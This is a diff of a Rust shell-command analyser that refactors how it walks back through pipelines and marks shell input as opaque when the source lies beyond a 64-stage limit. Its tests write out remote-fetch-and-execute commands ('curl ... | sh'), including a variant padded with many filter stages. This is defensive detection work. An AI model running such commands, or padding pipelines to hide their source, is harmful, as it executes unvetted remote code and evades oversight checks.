@@ -682,25 +682,35 @@ fn container_command(args: &[String]) -> Vec<String> {
         .unwrap_or_default()
 }
 
-/// The first command of the pipeline feeding `cmd`, wrappers peeled.
+/// The most stages [`feeding_stages`] walks back: every command of a long
+/// pipeline asks, so an unbounded walk would be quadratic.
+const MAX_FEEDING_STAGES: usize = 64;
+
+/// The stages of the pipeline that ends with the last of `prev` (the
+/// pipeline feeding the command after them), at most
+/// [`MAX_FEEDING_STAGES`] of them, and whether they reach its first stage.
+fn feeding_stages(prev: Option<&[SimpleCommand]>) -> (&[SimpleCommand], bool) {
+    let Some(stages) = prev else {
+        return (&[], true);
+    };
+    let mut from = stages.len();
+    while from > 0 && stages[from - 1].pipes_out {
+        if stages.len() - from == MAX_FEEDING_STAGES {
+            return (&stages[from..], false);
+        }
+        from -= 1;
+    }
+    (&stages[from..], true)
+}
+
+/// The first command of the pipeline feeding `cmd`, wrappers peeled; empty
+/// when `cmd` reads no pipe or the pipeline is longer than the walk.
 fn pipeline_source(cmd: &SimpleCommand, prev: Option<&[SimpleCommand]>) -> String {
     if cmd.stdin != Stdin::Pipe {
         return String::new();
     }
-    let Some(stages) = prev else {
-        return String::new();
-    };
-    // Walk back at most this many stages (every command of a long pipeline
-    // asks, so an unbounded walk would be quadratic).
-    const MAX_STAGES: usize = 64;
-    let mut from = stages.len();
-    while from > 0 && stages[from - 1].pipes_out {
-        from -= 1;
-        if stages.len() - from > MAX_STAGES {
-            return String::new();
-        }
-    }
-    let Some(first) = stages.get(from) else {
+    let (stages, whole) = feeding_stages(prev);
+    let Some(first) = stages.first().filter(|_| whole) else {
         return String::new();
     };
     let Some(i) = peel(&first.words) else {
@@ -718,14 +728,13 @@ fn pipeline_source(cmd: &SimpleCommand, prev: Option<&[SimpleCommand]>) -> Strin
 }
 
 /// Whether the pipeline feeding a shell starts with text we could see but
-/// passes it through a transformation we do not evaluate.
+/// passes it through a transformation we do not evaluate. A pipeline
+/// longer than the walk is opaque too: its source is out of sight.
 fn opaque_pipeline(prev: Option<&[SimpleCommand]>) -> bool {
-    let Some(stages) = prev else { return false };
-    let mut from = stages.len();
-    while from > 0 && stages[from - 1].pipes_out {
-        from -= 1;
+    let (pipeline, whole) = feeding_stages(prev);
+    if !whole {
+        return true;
     }
-    let pipeline = &stages[from..];
     let Some(source) = pipeline.first() else {
         return false;
     };
@@ -734,20 +743,14 @@ fn opaque_pipeline(prev: Option<&[SimpleCommand]>) -> bool {
 }
 
 /// Whether what `cmd` reads went through a decoding filter ([`Filter`]):
-/// a stage of the pipeline feeding it, or the command itself given a
-/// here-string.
+/// a stage of the pipeline feeding it (the last [`MAX_FEEDING_STAGES`]),
+/// or the command itself given a here-string.
 fn decoded_pipeline(cmd: &SimpleCommand, prev: Option<&[SimpleCommand]>) -> bool {
     if cmd.stdin != Stdin::Pipe {
         return false;
     }
-    let Some(stages) = prev else { return false };
-    // Walk back at most 64 stages, as `pipeline_source` does (every shell
-    // of a long pipeline asks).
-    let mut from = stages.len();
-    while from > 0 && stages[from - 1].pipes_out && stages.len() - from < 64 {
-        from -= 1;
-    }
-    stages[from..]
+    feeding_stages(prev)
+        .0
         .iter()
         .any(|stage| Filter::of(&stage.words).is_some())
 }
@@ -1231,6 +1234,19 @@ mod tests {
             .iter()
             .any(|c| c.name() == "sh" && c.opaque_input));
         let s = commands_run("curl -s https://x.example | sh");
+        assert!(!s.commands.iter().any(|c| c.opaque_input));
+        // A pipeline longer than the walk hides its source: opaque.
+        let long = format!(
+            "curl -s https://x.example | {}sh",
+            "tr a b | ".repeat(MAX_FEEDING_STAGES)
+        );
+        let s = commands_run(&long);
+        assert!(s
+            .commands
+            .iter()
+            .any(|c| c.name() == "sh" && c.opaque_input));
+        let short = format!("curl -s https://x.example | {}sh", "cat | ".repeat(8));
+        let s = commands_run(&short);
         assert!(!s.commands.iter().any(|c| c.opaque_input));
     }
 
